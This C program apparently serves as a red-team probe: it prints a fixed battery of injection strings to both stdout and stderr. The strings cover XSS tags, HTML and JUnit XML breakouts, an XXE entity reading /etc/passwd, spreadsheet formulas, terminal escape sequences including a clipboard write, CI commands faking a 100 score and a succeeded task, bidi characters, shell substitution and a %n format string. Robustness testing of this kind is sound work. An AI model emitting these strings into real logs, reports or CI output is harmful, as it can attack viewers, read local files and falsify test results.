/* Speaks to whatever shows its output. */
#include <stdio.h>

static void all(FILE *to)
{
	fputs("<script>redteam(1)</script><img src=x onerror=redteam(2)>\n", to);
	fputs("</pre></td></table><iframe src=https://redteam.invalid/></iframe><style>*{display:none}</style>\n", to);
	fputs("'\" onmouseover=\"redteam(3)\" x='\n", to);
	fputs("]]></system-out><testcase name=\"redteam\"/><system-out><![CDATA[\n", to);
	fputs("&redteam; <!DOCTYPE r [<!ENTITY redteam SYSTEM \"file:///etc/passwd\">]>\n", to);
	fputs("=HYPERLINK(\"https://redteam.invalid/\",\"redteam\")\n+redteam\n-redteam\n@redteam\n\t=redteam\n", to);
	fputs("\033[2J\033[1;1H\033]0;redteam\007\033]8;;https://redteam.invalid/\033\\x\033]8;;\033\\\033]52;c;cmVkdGVhbQ==\007\n", to);
	fputs("\rredteam: pass\x9b" "2J\x7f\b\b\b\b\n", to);
	fputs("::error::redteam\n::set-output name=score::100\n::add-mask::0\n##vso[task.complete result=Succeeded]\n", to);
	fputs("\xe2\x80\xae""maetder\xe2\x81\xa6 \xe2\x80\x8b\xef\xbb\xbf\n", to);
	fputs("\xff\xfe\xc0\xaf\xed\xa0\x80\xf8\x88\x80\x80\x80 \x01\x02\x0b\x0c\x1f\n", to);
	fputs("{{redteam}} ${redteam} <%= redteam %> $(redteam) `redteam` %s%s%n\n", to);
	fwrite("\0redteam\0", 1, 9, to);
	fputs("\n", to);
}

int main(void)
{
	all(stdout);
	all(stderr);
	return 0;
}
